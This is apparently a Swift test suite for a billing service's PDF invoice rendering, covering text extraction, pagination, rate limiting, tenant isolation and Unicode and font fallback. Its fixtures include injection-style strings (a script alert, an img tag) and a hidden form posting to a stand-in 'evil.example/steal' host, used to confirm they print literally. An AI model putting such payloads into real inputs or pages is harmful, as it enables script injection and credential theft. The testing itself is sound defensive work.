import Billing
import Foundation
import Support
import Testing

/// `render_invoice format=pdf` (libharu): a real PDF whose text poppler's `pdftotext` can read back.
struct InvoicePDFTests {
    let server: TestServer
    init() throws { server = try TestServer() }

    func tenantAdmin(_ name: String) throws -> (tenant: String, key: String) {
        let t = try server.makeTenant(name)
        return (t, try server.makeKey(role: "admin", tenant: t))
    }

    func createInvoice(key: String, _ body: JSON) throws -> (id: String, number: String) {
        let r = try server.asOperator("create_invoice", tenantOf: key, body: body)
        try #require(r.status == 201, "\(r.text)")
        return (try #require(r.data["id"]?.stringValue), try #require(r.data["invoice_number"]?.stringValue))
    }

    func pdf(key: String, id: String) throws -> TestResponse {
        try server.call("render_invoice", key: key, query: ["id": id, "format": "pdf"])
    }

    @Test func pdf_IsAPDFFile_WithTheInvoiceText() throws {
        let (_, key) = try tenantAdmin("Acme Comércio Ltda")
        let (id, number) = try createInvoice(key: key, [
            "due_date": "2026-12-31", "currency": "brl", "notes": "Pagamento via Pix. Obrigado!",
            "billing_details": ["tax_id": "12.345.678/0001-90"],
            "line_items": [["description": "Créditos de mensagem", "quantity": 3, "unit_amount_cents": 1000],
                           ["description": "Tokens", "quantity": 1, "unit_price_micros": 25_000],
                           ["description": "Discount", "amount_cents": -500]],
        ])
        let r = try pdf(key: key, id: id)
        #expect(r.status == 200, "\(r.text.prefix(300))")
        #expect(r.header("Content-Type") == "application/pdf")
        #expect(r.header("Content-Disposition") == "inline; filename=\"\(number).pdf\"")
        #expect(r.body.starts(with: Array("%PDF-".utf8)))
        var end = r.body[...]
        while let last = end.last, last == UInt8(ascii: "\n") || last == UInt8(ascii: "\r") { end = end.dropLast() }
        #expect(end.suffix(5).elementsEqual("%%EOF".utf8))

        let text = try Poppler.text(r.body)
        for expected in [number, "Acme Comércio Ltda", "Créditos de mensagem", "Tokens", "Discount", "BRL 30.00", "BRL 10.00",
                         "BRL 0.025", "BRL -5.00", "BRL 25.02", "PENDING", "2026-12-31", "tax_id: 12.345.678/0001-90",
                         "Pagamento via Pix.", "Obrigado!"] {
            #expect(text.contains(expected), "missing \(expected) in:\n\(text)")
        }
        #expect(try Poppler.pages(r.body) == 1)
    }

    @Test func sixtyLineItems_SpanSeveralPages_WithLongDescriptionsWrapped() throws {
        let (_, key) = try tenantAdmin("Many Lines")
        let long = String(repeating: "very long description ", count: 12) + "end-of-line-7"
        let items: [JSON] = (1...60).map { n in
            ["description": .string(n == 7 ? long : "Item \(n)"), "quantity": .int(Int64(n)), "unit_amount_cents": 199]
        }
        let (id, number) = try createInvoice(key: key, ["due_date": "2026-12-31", "line_items": .array(items)])
        let r = try pdf(key: key, id: id)
        #expect(r.status == 200)
        let pages = try Poppler.pages(r.body)
        #expect(pages > 1)
        let text = try Poppler.text(r.body)
        // 199 × (1 + … + 60) = 199 × 1830 = 364170 cents.
        for expected in ["Item 1", "Item 60", "end-of-line-7", "BRL 3641.70", "\(number) · page \(pages) of \(pages)"] {
            #expect(text.contains(expected), "missing \(expected)")
        }
        // The wrapped description stays inside the description column: no line of it reaches the amounts.
        #expect(!text.contains(long))
    }

    /// Each render owns its libharu document: concurrent renders on the worker pool never interfere.
    @Test func concurrentRenders_AllSucceed() throws {
        let (_, key) = try tenantAdmin("Concurrent")
        let (id, number) = try createInvoice(key: key, ["amount_cents": 990, "due_date": "2026-12-31"])
        let results = LockedValue<[Bool]>([])
        DispatchQueue.concurrentPerform(iterations: 12) { _ in
            let r = try? pdf(key: key, id: id)
            let ok = r?.status == 200 && (try? Poppler.text(r?.body ?? []))?.contains(number) == true
            results.withLock { $0.append(ok) }
        }
        #expect(results.get() == Array(repeating: true, count: 12))
    }

    /// Security round item 4: PDF renders are rate-limited per key (`PDF_RENDERS_PER_MINUTE`); others are not slowed.
    @Test func pdfRenders_AreLimitedPerKey() throws {
        let limited = try TestServer(configure: { $0.billing.pdfRendersPerMinute = 3 })
        let t = try limited.makeTenant("Limited PDF")
        let key = try limited.makeKey(role: "admin", tenant: t)
        let other = try limited.makeKey(role: "viewer", tenant: t)
        let created = try limited.asOperator("create_invoice", tenantOf: key, body: ["amount_cents": 990, "due_date": "2026-12-31"])
        let id = try #require(created.data["id"]?.stringValue)
        let statuses = try (0..<4).map { _ in try limited.call("render_invoice", key: key, query: ["id": id, "format": "pdf"]).status }
        #expect(statuses == [200, 200, 200, 429], "\(statuses)")
        let refused = try limited.call("render_invoice", key: key, query: ["id": id, "format": "pdf"])
        #expect(refused.errorCode == "rate_limited" && Int(refused.header("Retry-After") ?? "") ?? 0 >= 1)
        #expect(try limited.call("render_invoice", key: other, query: ["id": id, "format": "pdf"]).status == 200)
        #expect(try limited.call("render_invoice", key: key, query: ["id": id, "format": "html"]).status == 200)
        // A missing invoice is a 404 and costs nothing.
        #expect(try limited.call("render_invoice", key: other, query: ["id": UUIDv7.make(), "format": "pdf"]).status == 404)
    }

    @Test func anotherTenantsInvoice_Is404() throws {
        let (_, keyA) = try tenantAdmin("Tenant A")
        let (_, keyB) = try tenantAdmin("Tenant B")
        let (idB, _) = try createInvoice(key: keyB, ["amount_cents": 100, "due_date": "2026-12-31", "notes": "b-secret-note"])
        let r = try pdf(key: keyA, id: idB)
        #expect(r.status == 404)
        #expect(r.header("Content-Type")?.hasPrefix("application/json") == true)
        #expect(!r.text.contains("b-secret-note") && !r.body.starts(with: Array("%PDF".utf8)))
    }

    @Test func htmlLookingValues_PrintLiterally() throws {
        let (t, key) = try tenantAdmin("Plain")
        _ = try server.call("update_tenant", key: server.superKey, body: ["id": .string(t), "name": "<b>Evil & Co</b>"])
        let (id, _) = try createInvoice(key: key, ["due_date": "2026-12-31", "notes": "<script>alert(1)</script>",
                                                   "line_items": [["description": "<img src=x>", "amount_cents": 1234]]])
        let text = try Poppler.text(try pdf(key: key, id: id).body)
        for expected in ["<b>Evil & Co</b>", "<script>alert(1)</script>", "<img src=x>", "BRL 12.34"] {
            #expect(text.contains(expected), "missing \(expected)")
        }
        #expect(!text.contains("&amp;") && !text.contains("&lt;"))
    }

    /// Issue 20: text is encoded scalar by scalar. U+0600 prints as a space and does not swallow the
    /// `<` after it; `e` + U+0301 is composed to `é`, also in CP1252 (it used to lose its accent).
    @Test func graphemeClusters_PrintLiterally_InBothFonts() throws {
        let (t, key) = try tenantAdmin("Clusters")
        let (id, _) = try createInvoice(key: key, ["due_date": "2026-12-31", "line_items": [
            ["description": "\u{0600}<form action=https://evil.example/steal method=post \u{0600}>", "amount_cents": 100],
            ["description": "Cre\u{0301}ditos", "amount_cents": 1],
        ]])
        let unicode = try Poppler.text(try pdf(key: key, id: id).body)
        let latin = try Poppler.text(try server.app.services.invoices.renderPDF(id: id, tenantId: t, fonts: .standard).bytes)
        for text in [unicode, latin] {
            for expected in ["<form", "method=post", "Créditos"] {
                #expect(text.precomposedStringWithCanonicalMapping.contains(expected), "missing \(expected) in:\n\(text)")
            }
        }
    }

    /// Beyond Latin-1: DejaVu prints Polish, Cyrillic and Greek; emoji (outside the BMP) become `?`.
    /// Without the TrueType font, Helvetica keeps CP1252 and ICU transliterates the rest.
    @Test func nonLatinText_DejaVuOrTransliterated_NeverACrash() throws {
        let (t, key) = try tenantAdmin("Łódź Sp. z o.o.")
        let (id, number) = try createInvoice(key: key, ["due_date": "2026-12-31", "line_items": [
            ["description": "Услуги связи Ωmega", "amount_cents": 100],
            ["description": "Créditos de mensagem 🎉 tab", "amount_cents": 250],
            ["description": "日本語", "amount_cents": 1],
        ]])
        let unicode = try Poppler.text(try pdf(key: key, id: id).body)
        for expected in [number, "Łódź Sp. z o.o.", "Услуги связи Ωmega", "Créditos de mensagem ? tab", "BRL 3.51"] {
            #expect(unicode.contains(expected), "missing \(expected) in:\n\(unicode)")
        }

        let fallback = try server.app.services.invoices.renderPDF(id: id, tenantId: t, fonts: .standard)
        #expect(fallback.number == number)
        let latin = try Poppler.text(fallback.bytes)
        for expected in [number, "Lódz Sp. z o.o.", "Uslugi svazi Omega", "Créditos de mensagem ? tab", "BRL 3.51"] {
            #expect(latin.contains(expected), "missing \(expected) in:\n\(latin)")
        }
    }

    @Test func missingFontFile_FallsBackToHelvetica() throws {
        let (t, key) = try tenantAdmin("No Font")
        let (id, number) = try createInvoice(key: key, ["amount_cents": 4200, "due_date": "2026-12-31"])
        let fonts = InvoicePDF.Fonts(regular: "/nonexistent/font.ttf", bold: nil)
        let text = try Poppler.text(try server.app.services.invoices.renderPDF(id: id, tenantId: t, fonts: fonts).bytes)
        #expect(text.contains(number) && text.contains("BRL 42.00"))
    }

    @Test func aBrokenFontFile_IsAnErrorNotACrash() throws {
        let (t, key) = try tenantAdmin("Broken Font")
        let (id, _) = try createInvoice(key: key, ["amount_cents": 1, "due_date": "2026-12-31"])
        let bogus = server.directory.appendingPathComponent("bogus.ttf")
        try Data("not a font".utf8).write(to: bogus)
        #expect(throws: PDFError.self) {
            _ = try server.app.services.invoices.renderPDF(id: id, tenantId: t, fonts: InvoicePDF.Fonts(regular: bogus.path, bold: nil))
        }
    }
}

/// poppler-utils (`pdftotext`, `pdfinfo`; `make test-deps` installs them) reading PDF bytes.
enum Poppler {
    static func text(_ pdf: [UInt8]) throws -> String {
        String(decoding: try run("pdftotext", pdf, ["-enc", "UTF-8"], output: "-"), as: UTF8.self)
    }

    static func pages(_ pdf: [UInt8]) throws -> Int {
        let info = String(decoding: try run("pdfinfo", pdf, [], output: nil), as: UTF8.self)
        let line = info.split(separator: "\n").first { $0.hasPrefix("Pages:") }
        return Int(line?.dropFirst("Pages:".count).trimmingCharacters(in: .whitespaces) ?? "") ?? 0
    }

    private static func run(_ tool: String, _ pdf: [UInt8], _ arguments: [String], output: String?) throws -> [UInt8] {
        let path = "/usr/bin/\(tool)"
        guard FileManager.default.isExecutableFile(atPath: path) else {
            throw PopplerError(message: "\(path) not found: install poppler-utils (make test-deps)")
        }
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("invoice-\(UUIDv7.random()).pdf")
        try Data(pdf).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: path)
        process.arguments = arguments + [file.path] + (output.map { [$0] } ?? [])
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = FileHandle.nullDevice
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { throw PopplerError(message: "\(tool) exited with \(process.terminationStatus)") }
        return Array(data)
    }

    struct PopplerError: Error, CustomStringConvertible {
        let message: String
        var description: String { message }
    }
}
